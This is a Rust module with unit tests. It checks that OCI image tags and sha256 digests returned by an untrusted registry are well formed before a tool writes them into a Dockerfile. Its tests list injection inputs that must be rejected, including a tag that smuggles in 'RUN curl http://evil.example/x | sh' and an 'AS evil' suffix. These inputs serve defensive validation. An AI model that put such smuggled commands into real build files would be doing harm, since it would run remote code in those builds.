//! The grammar a registry's answers must match before `bump` writes them into a Dockerfile: OCI
//! tags (`[A-Za-z0-9_][A-Za-z0-9._-]{0,127}`) and sha256 digests (`sha256:` and 64 lowercase hex
//! digits). A registry is not trusted: anything else (a newline and a `RUN` line, a space and
//! `AS evil`) is refused, never written.
//!
//! Pure: works on strings.

/// Whether `tag` is a tag by the OCI distribution grammar.
pub fn is_tag(tag: &str) -> bool {
    let bytes = tag.as_bytes();
    let ok_first = |b: u8| b.is_ascii_alphanumeric() || b == b'_';
    let ok_rest = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-');
    match bytes.split_first() {
        Some((first, rest)) => {
            ok_first(*first) && rest.len() <= 127 && rest.iter().all(|b| ok_rest(*b))
        }
        None => false,
    }
}

/// Whether `digest` is `sha256:` followed by 64 lowercase hex digits.
pub fn is_sha256_digest(digest: &str) -> bool {
    digest.strip_prefix("sha256:").is_some_and(|hex| {
        hex.len() == 64 && hex.bytes().all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f'))
    })
}

/// `sha256:` and the lowercase hex of the SHA-256 of `bytes`.
pub fn sha256_digest_of(bytes: &[u8]) -> String {
    use sha2::Digest;
    let hash = sha2::Sha256::digest(bytes);
    let mut out = String::with_capacity(71);
    out.push_str("sha256:");
    for b in hash {
        out.push_str(&format!("{b:02x}"));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tags_follow_the_oci_grammar() {
        for good in [
            "3.12",
            "3.12-slim",
            "_x",
            "latest",
            "A.b_c-d",
            &"a".repeat(128),
        ] {
            assert!(is_tag(good), "{good:?}");
        }
        for bad in [
            "",
            "3.99\nRUN curl http://evil.example/x | sh",
            "3.12 AS evil",
            ".hidden",
            "-x",
            "a/b",
            "a:b",
            "a@b",
            "ü",
            "3.12\r",
            "3.12\u{1b}[31m",
            &"a".repeat(129),
        ] {
            assert!(!is_tag(bad), "{bad:?}");
        }
    }

    #[test]
    fn digests_are_sha256_with_64_lowercase_hex_digits() {
        let hex = "0123456789abcdef".repeat(4);
        assert!(is_sha256_digest(&format!("sha256:{hex}")));
        for bad in [
            format!("sha256:{hex} AS evil --platform=linux/evil"),
            format!("sha256:{}", hex.to_uppercase()),
            format!("sha512:{hex}"),
            format!("sha256:{}", &hex[1..]),
            format!("sha256:{hex}0"),
            "sha256:abc".to_string(),
            format!("sha256:{hex}\nRUN x"),
        ] {
            assert!(!is_sha256_digest(&bad), "{bad:?}");
        }
        assert_eq!(
            sha256_digest_of(b""),
            "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
        );
    }
}
